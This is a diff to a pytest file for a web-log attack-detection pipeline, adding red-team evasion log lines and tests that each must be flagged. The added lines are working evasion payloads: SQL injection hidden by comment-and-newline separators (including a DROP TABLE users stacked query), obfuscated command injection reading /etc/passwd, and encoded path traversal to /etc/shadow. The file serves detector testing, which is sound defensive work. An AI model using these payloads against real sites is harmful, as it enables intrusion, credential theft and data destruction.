@@ -87,10 +87,36 @@ EVASIONS = [
     (_line("/view.php?page=%5c%5c198.51.100.9%5cshare%5cshell.php"), "file-inclusion-remote"),
 ]
 
+# What the fixes above left (the audit's final list, 2026-12-07).
+EVASIONS_LEFT = [
+    # 1. The "#...\n" and "--...\n" separators in every SQL rule that reads a condition.
+    (_line("/item.php?id=1'%23x%0AOR%23y%0A1=1"), "sqli-tautology"),
+    (_line("/item.php?id=1%23x%0AOR%23y%0AX=%27ss"), "sqli-string-condition"),
+    (_line("/item.php?id=1;%23x%0ADROP%23y%0ATABLE%23z%0Ausers"), "sqli-stacked-query"),
+    (_line("/item.php?id=1;--x%0Adeclare--y%0A@q%20varchar(99)"), "sqli-stacked-query"),
+    # 2. A backslash inside a command name (Apache logs "\\" as "\\\\"): the shell drops it.
+    (_line("/ping.php?ip=127.0.0.1;w\\\\hoami"), "command-injection-chain"),
+    (_line("/ping.php?ip=127.0.0.1;i\\\\d"), "command-injection-chain"),
+    (_line("/ping.php?ip=127.0.0.1%7Cc%5Ca%5Ct%20/etc/passwd"), "command-injection-chain"),
+    # 3. MySQL's \N (NULL) glued to UNION.
+    (_line("/item.php?id=%5cNUNION%20SELECT%201,2"), "sqli-union-select"),
+    # 4. An encoded absolute system path as one segment of the URL path.
+    (_line("/download/file/%252fetc%252fpasswd"), "path-traversal-system-file"),
+    (_line("/download/file/%2Fetc%2Fshadow"), "path-traversal-system-file"),
+    # 5. Two-letter command names split by a pair of quotes.
+    (_line("/ping.php?ip=127.0.0.1;i'd'"), "command-injection-chain"),
+    (_line("/ping.php?ip=127.0.0.1;l's'"), "command-injection-chain"),
+    # 5. BETWEEN followed by a comment or another parameter.
+    (_line("/item.php?id=1%20AND%209227%20BETWEEN%209227%20AND%209227--%20-"), "sqli-blind-probe"),
+    (_line("/item.php?id=1%20AND%209227%20BETWEEN%209227%20AND%209227&x=1"), "sqli-blind-probe"),
+]
+
 ORDINARY = [
     _line("/search?q=european+union+select+committee"),
     _line("/books/search?q=javascript:+the+good+parts"),
     _line("/search?q=%22select%22+element+not+working"),
+    _line("/docs/etc/passwd-reset.html"),
+    _line("/docs/etc%2Fpasswd-reset.html"),
 ]
 
 
@@ -102,6 +128,16 @@ def pipeline() -> Pipeline:
 @pytest.mark.parametrize(("line", "rule_id"), EVASIONS, ids=[e[0][48:100] for e in EVASIONS])
 def test_a_red_team_evasion_is_found(pipeline: Pipeline, line: str, rule_id: str) -> None:
     result = pipeline.process(line, Origin("red-team", 1))
+    assert rule_id in {finding.rule_id for finding in result.findings}
+
+
+@pytest.mark.parametrize(
+    ("line", "rule_id"), EVASIONS_LEFT, ids=[e[0][48:100] for e in EVASIONS_LEFT]
+)
+def test_an_evasion_left_by_the_first_fixes_is_found(
+    pipeline: Pipeline, line: str, rule_id: str
+) -> None:
+    result = pipeline.process(line, Origin("red-team", 2))
     assert rule_id in {finding.rule_id for finding in result.findings}
 
 
